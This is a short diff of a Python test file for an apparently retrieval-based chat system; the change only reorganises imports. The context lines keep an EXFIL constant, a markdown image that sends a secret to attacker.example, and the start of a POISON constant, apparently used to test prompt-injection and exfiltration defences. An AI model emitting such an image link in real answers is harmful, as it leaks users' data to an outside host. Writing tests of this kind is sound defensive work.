@@ -8,8 +8,10 @@ from typing import Any
 
 from tests.workbench.openai_server import Call, CallTools, ChatServer, Say, task_of
 from tests.workbench.test_chat import CFG, CHAPTERS, OverlapRetriever, llm_for, response, result
-from workbench.answer.chat import SOURCES_ARE_DATA, answer, check_citations, has_content
+from workbench.answer.chat import answer
+from workbench.answer.citations import check_citations, has_content
 from workbench.answer.safe_markdown import neutralize
+from workbench.answer.sources import SOURCES_ARE_DATA
 
 EXFIL = "![x](http://attacker.example/leak?q=SECRET)"
 POISON = (
